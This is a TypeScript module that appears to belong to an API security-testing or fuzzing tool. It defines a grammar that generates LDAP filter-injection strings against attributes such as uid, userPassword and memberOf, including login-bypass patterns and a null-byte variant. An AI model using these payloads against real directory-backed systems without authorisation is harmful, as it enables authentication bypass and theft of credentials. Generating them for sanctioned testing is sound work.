import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'ldap',
  title: 'filters of a directory in the place of values',
  owasp: ['API8:2023'],
  inputs: ['text'],
  rules: {
    start: [
      '*)(‹attribute›=*',
      '*)(‹attribute›=*))(|(‹attribute›=*',
      '‹name›)(&)',
      '‹name›)(|(‹attribute›=*))',
      '*)(&(‹attribute›=‹name›',
      'admin)(!(&(1=0',
      '*))%00',
      '‹name›*)(‹attribute›=‹letter›*',
      '*)(|(&(objectClass=*)(‹attribute›=*',
      'admin*)((|‹attribute›=*)',
    ],
    attribute: ['uid', 'cn', 'objectClass', 'userPassword', 'password', 'mail', 'memberOf'],
    letter: ['a', 'b', 's', 'x'],
  },
})
